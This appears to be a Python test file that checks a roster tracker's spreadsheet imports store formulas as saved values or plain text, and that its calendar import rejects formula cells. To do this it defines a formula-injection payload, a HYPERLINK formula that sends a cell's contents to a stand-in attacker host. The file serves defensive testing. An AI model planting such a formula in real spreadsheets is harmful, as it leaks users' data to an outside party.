"""Imports never run or keep a formula: the roster and the legacy spreadsheet take the value Excel saved
(what the office saw), a typed `=…` text stays that text, and the calendar refuses formulas outright."""

from __future__ import annotations

import io
from datetime import date
from xml.sax.saxutils import escape

from openpyxl import Workbook

from tests.domain.test_roster_files import with_formula
from tests.roster_files import DEPUTY_HEADERS, csv_bytes, deputies, xlsx
from tracker.domain.deadlines.schedule import read_schedule
from tracker.domain.exchange import cells
from tracker.domain.exchange.imports import read_sheet
from tracker.domain.roster.columns import DEPUTIES
from tracker.domain.roster.sheets import read_table

ATTACK = 'HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
IN_XML = escape(ATTACK)  # as the sheet's XML holds it


def test_a_roster_formula_is_read_as_its_saved_value_never_its_text():
    data = with_formula(xlsx(deputies(1)), "A2", IN_XML, "点击查看")
    table = read_table(data, "a.xlsx", DEPUTIES)
    assert table.cell(table.rows[0][1], "name") == "点击查看"


def test_formula_like_text_in_a_roster_stays_text_in_xlsx_and_csv():
    rows = deputies(1)
    rows[0][0] = "=" + ATTACK.replace(",", "，")  # CSV: no comma inside the cell
    book = cells.workbook()
    cells.add_row(book.active, DEPUTY_HEADERS)
    cells.add_row(book.active, rows[0])  # a text cell, as Excel keeps a typed '=…
    for data, name in ((cells.save(book), "a.xlsx"), (csv_bytes(rows), "a.csv")):
        table = read_table(data, name, DEPUTIES)
        assert table.cell(table.rows[0][1], "name") == rows[0][0]


def test_the_legacy_import_reads_a_formula_as_its_saved_value():
    book = Workbook()
    book.active.append(["标题", "事由"])
    book.active.append(["标题一", "x"])
    out = io.BytesIO()
    book.save(out)
    sheet = read_sheet(io.BytesIO(with_formula(out.getvalue(), "A2", IN_XML, "点击查看")))
    assert sheet.rows == [["点击查看", "x"]]


def test_the_calendar_refuses_a_formula_in_any_cell():
    found = read_schedule(b"2027-01-01,rest,=1+1\n2027-01-02,rest,@SUM(1)\n2027-01-03,rest,ok\n",
                          "a.csv", 2027)
    assert [n for n, _ in found.problems] == [1, 2] and list(found.days) == [date(2027, 1, 3)]
